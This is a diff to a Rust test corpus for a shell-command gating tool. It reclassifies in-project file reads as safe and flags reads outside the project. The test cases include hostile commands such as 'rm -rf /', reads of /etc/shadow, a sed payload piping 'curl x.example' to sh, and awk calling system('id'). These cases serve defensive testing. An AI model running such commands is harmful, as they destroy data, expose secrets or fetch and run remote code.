@@ -202,8 +202,8 @@ pub const CORPUS: &[Case] = &[
     case!(Dev, "npm test; cargo fmt --check", P, R, Y, ""),
     case!(Dev, "cargo build; npm test || make test", P, R, Y, ""),
     case!(Dev, "cargo clippy -- -D warnings", P, R, Y, ""),
-    case!(Dev, "ls -la src", P, R, Y, ""),
-    case!(Dev, "cat README.md", P, R, Y, ""),
+    case!(Dev, "ls -la src", P, S, Y, ""),
+    case!(Dev, "cat README.md", P, S, Y, ""),
     case!(Dev, "cargo build | cat README.md", P, R, Y, ""),
     case!(Dev, "echo done && make test", P, U, Y, ""),
     case!(Dev, "echo 'a;b'", P, U, Y, ""),
@@ -222,9 +222,9 @@ pub const CORPUS: &[Case] = &[
     case!(Wrappers, "env make test", P, U, Y, ""),
 
     // ── Plain but not allowlisted, not safe: asked ──────────────────────────────────
-    case!(NoRules, "ls src", P, R, X, ""),
+    case!(NoRules, "ls src", P, S, Y, ""),
     case!(NoRules, "ls /", P, R, X, ""),
-    case!(NoRules, "cat README.md", P, R, X, ""),
+    case!(NoRules, "cat README.md", P, S, Y, ""),
     case!(NoRules, "make test", P, R, X, ""),
     case!(NoRules, "cargo build", P, R, X, ""),
     case!(NoRules, "git log --oneline --output=/tmp/x", P, U, X, ""),
@@ -293,7 +293,7 @@ pub const CORPUS: &[Case] = &[
     case!(GitGlob, "git log > /dev/nvme0n1", N, D, X, "redirect"),
     case!(Dev, "echo x > /home/u/.local/state/execgate/execgate.db", N, D, X, "redirect"),
     case!(Dev, "cat README.md > out.txt", N, U, X, "redirect"),
-    case!(Dev, "cargo test 2>&1", N, U, X, "redirect"),
+    case!(Dev, "cargo test 2>&1", P, R, Y, ""),
     case!(Dev, "cargo build &> log.txt", N, U, X, "redirect"),
     case!(Dev, "ls < /etc/shadow", N, U, X, "redirect"),
     case!(Dev, "echo x >| file", N, U, X, "redirect"),
@@ -407,7 +407,7 @@ pub const CORPUS: &[Case] = &[
     case!(Dev, r"echo \$(id)", N, U, X, "backslash"),
     case!(NoRules, r"r\m -rf /", N, U, X, "backslash"),
     case!(GitStatus, r"git sta\tus", N, U, X, "backslash"),
-    case!(Dev, r#"echo "a\\b""#, N, U, X, "backslash"),
+    case!(Dev, r#"echo "a\\b""#, P, S, Y, ""),
     case!(GitStatus, "git status \\\nrm -rf /", N, U, X, ""),
     case!(Dev, r"echo 'a\b'", P, U, Y, ""),
 
@@ -588,7 +588,7 @@ pub const CORPUS: &[Case] = &[
     case!(NoRules, "git log --format=%an | sort | uniq -c | sort -rn", P, S, Y, ""),
     case!(NoRules, "jq -r .name", P, S, Y, ""),
     case!(NoRules, "awk '{print $1}'", P, S, Y, ""),
-    case!(Dev, "cat README.md", P, R, Y, ""),
+    case!(Dev, "cat README.md", P, S, Y, ""),
     case!(Owner, "cargo test", P, R, Y, ""),
     case!(Owner, "cargo test --release -- --nocapture", P, R, Y, ""),
     case!(Owner, "cargo build --release && cargo clippy -- -D warnings", P, R, Y, ""),
@@ -602,11 +602,11 @@ pub const CORPUS: &[Case] = &[
     case!(Owner, "git fetch --all --prune", P, R, Y, ""),
     case!(Owner, "git checkout -b topic origin/main", P, R, Y, ""),
     case!(Tools, "cargo test", P, R, Y, ""),
-    case!(Tools, "sort -u names.txt", P, R, Y, ""),
-    case!(Tools, "grep -rn TODO src", P, R, Y, ""),
-    case!(Tools, "rg -n TODO src", P, R, Y, ""),
-    case!(Tools, "jq .version package.json", P, R, Y, ""),
-    case!(Tools, "sed -n 1,20p src/main.rs", P, R, Y, ""),
+    case!(Tools, "sort -u names.txt", P, S, Y, ""),
+    case!(Tools, "grep -rn TODO src", P, S, Y, ""),
+    case!(Tools, "rg -n TODO src", P, S, Y, ""),
+    case!(Tools, "jq .version package.json", P, S, Y, ""),
+    case!(Tools, "sed -n 1,20p src/main.rs", P, S, Y, ""),
     case!(Tools, "npm run build", P, R, Y, ""),
     case!(Tools, "npx prettier --check src", P, R, Y, ""),
     case!(Tools, "python -m pytest -x tests", P, R, Y, ""),
@@ -615,7 +615,7 @@ pub const CORPUS: &[Case] = &[
     // ── Optional values: getopt_long attaches them only with `=` ────────────────────
     case!(NoRules, "uniq --group - --group FILE", P, R, X, "writes `FILE`"),
     case!(Tools, "uniq --group - --group FILE", P, R, X, "writes `FILE`"),
-    case!(NoRules, "grep '' --color FILE", P, R, X, "reads `FILE`"),
+    case!(NoRules, "grep '' --color ../FILE", P, R, X, "reads `../FILE`"),
     case!(NoRules, "grep --colour x /etc/hosts", P, R, X, "reads `/etc/hosts`"),
     case!(NoRules, "ls --classify /root", P, R, X, "reads"),
     case!(NoRules, "sort -c /etc/shadow", P, R, X, "secret"),
@@ -623,7 +623,7 @@ pub const CORPUS: &[Case] = &[
     case!(NoRules, "du --time /srv", P, R, X, "everything under"),
 
     // ── Attached short values ───────────────────────────────────────────────────────
-    case!(NoRules, "grep -e. FILE", P, R, X, "reads `FILE`"),
+    case!(NoRules, "grep -e. ../FILE", P, R, X, "reads `../FILE`"),
     case!(NoRules, "grep -ie. /etc/shadow", P, R, X, "secret"),
     case!(NoRules, "sort -ofile", P, R, X, "writes `file`"),
     case!(NoRules, "sort -rk2 -o/tmp/x", P, R, X, "writes `/tmp/x`"),
@@ -655,8 +655,8 @@ pub const CORPUS: &[Case] = &[
     case!(NoRules, "grep -d recurse foo", P, R, X, "everything under"),
     case!(NoRules, "find -files0-from F", P, R, X, ""),
     case!(Owner, "find -files0-from F", P, R, X, ""),
-    case!(NoRules, "file -m F", P, R, X, "reads `F`"),
-    case!(NoRules, "date -r F", P, R, X, "reads `F`"),
+    case!(NoRules, "file -m ../F", P, R, X, "reads `../F`"),
+    case!(NoRules, "date -r ../F", P, R, X, "reads `../F`"),
     case!(NoRules, "date --reference=/etc/shadow", P, R, X, "secret"),
     case!(NoRules, "rg -z foo", P, R, X, "decompression"),
     case!(Tools, "rg -z foo src", P, R, X, "decompression"),
@@ -876,9 +876,9 @@ pub const CORPUS: &[Case] = &[
     case!(NoRules, "echo rm -rf /", P, S, Y, ""),
     case!(NoRules, "printf 'git reset --hard'", P, S, Y, ""),
     case!(NoRules, "git log --oneline -1 && git status -sb", P, S, Y, ""),
-    case!(NoRules, "sed -n 1,5p file.txt", P, R, X, "reads"),
-    case!(Tools, "sed -n 1,5p file.txt", P, R, Y, ""),
-    case!(Tools, "grep -n TODO file | sort | uniq -c", P, R, Y, ""),
+    case!(NoRules, "sed -n 1,5p file.txt", P, S, Y, ""),
+    case!(Tools, "sed -n 1,5p file.txt", P, S, Y, ""),
+    case!(Tools, "grep -n TODO file | sort | uniq -c", P, S, Y, ""),
     // ── Issue 29: embedded languages read as the programs read them ───────────────────
     // sed: a label ends at a blank; a bracket expression hides the delimiter; each `-e`
     // is compiled as sed meets it, so `--sandbox` covers only what follows it.
@@ -888,8 +888,8 @@ pub const CORPUS: &[Case] = &[
     case!(Tools, "sed -n 's/[/]/#/w FILE' f", P, R, X, "writes"),
     case!(Tools, "sed -e 'w out' --sandbox f", P, R, X, "writes"),
     case!(Tools, "echo / | sed 's/[/]/ curl x.example|sh/e'", P, R, X, "runs"),
-    case!(Tools, "sed --sandbox -n '1,20p' f", P, R, Y, ""),
-    case!(Tools, "sed -n '1,20p' src/main.rs", P, R, Y, ""),
+    case!(Tools, "sed --sandbox -n '1,20p' f", P, S, Y, ""),
+    case!(Tools, "sed -n '1,20p' src/main.rs", P, S, Y, ""),
     case!(NoRules, "git log | sed -n '/^commit/p'", P, S, Y, ""),
     // awk: a `"` inside a regex literal is no string.
     case!(NoRules, r#"awk 'BEGIN { if (/"/) {} ; system("id") } /"/ {}'"#, P, R, X, "runs a command"),
@@ -902,7 +902,7 @@ pub const CORPUS: &[Case] = &[
     case!(NoRules, "jq -n '$ ENV'", P, R, X, "environment"),
     case!(NoRules, "jq -n '{a:env}'", P, R, X, "environment"),
     case!(Tools, "jq -n '{a:env}'", P, R, X, "environment"),
-    case!(Tools, "jq .name package.json", P, R, Y, ""),
+    case!(Tools, "jq .name package.json", P, S, Y, ""),
     case!(NoRules, "jq -r '{env} | .env'", P, S, Y, ""),
     // Secrets printed by reading commands.
     case!(GitGlob, "git config get --all --regexp .", P, R, X, "may hold tokens"),
@@ -917,10 +917,10 @@ pub const CORPUS: &[Case] = &[
     // `-` is a standard stream only where the program says so.
     case!(Tools, "sort -o- data.txt", P, R, X, "writes `-`"),
     case!(Tools, "sort -o - data.txt", P, R, X, "writes `-`"),
-    case!(NoRules, "rev -", P, R, X, "reads `-`"),
+    case!(NoRules, "rev -", P, S, Y, ""),
     case!(NoRules, "cat -", P, S, Y, ""),
     case!(Tools, "curl -o - https://x.example", P, R, Y, ""),
-    case!(Tools, "grep -f - src", P, R, Y, ""),
+    case!(Tools, "grep -f - src", P, S, Y, ""),
     // `git checkout NAME` discards NAME's changes where NAME is a file there.
     case!(GitGlob, "git checkout README.md", P, D, X, "discards"),
     case!(GitGlob, "git checkout main", P, R, Y, ""),
@@ -943,4 +943,6 @@ pub const CORPUS: &[Case] = &[
     case!(NoRules, "git help log", P, R, X, "shows a manual"),
     case!(NoRules, "git help -a", P, S, Y, ""),
     case!(NoRules, "systemctl is-enabled nginx", P, S, Y, ""),
+    // ── Reads inside the project are harmless; its neighbours are not (issue 33) ──
+    case!(NoRules, "cat ../README.md", P, R, X, "outside the project"),
 ];
